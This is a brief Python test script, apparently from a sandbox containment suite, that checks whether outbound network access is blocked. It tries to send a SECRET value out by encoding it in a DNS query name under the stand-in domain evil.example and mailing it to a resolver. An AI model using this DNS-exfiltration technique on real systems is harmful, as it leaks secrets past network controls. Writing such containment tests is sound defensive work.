# class: network
# rule: outbound_connectivity
# success: a question that carries data is sent to the resolver by a socket of the attacker
# proof: query
# needs: resolver
import socket

from attack import RESOLVER, SECRET, attempt, patience

NAME = (
    b"".join(bytes([len(part)]) + part for part in (SECRET.encode(), b"evil", b"example")) + b"\0"
)


@attempt
def ask():
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.settimeout(patience(3))
    out.sendto(b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + NAME + b"\0\x01\0\x01", (RESOLVER, 53))
    return len(out.recv(512)) > 12
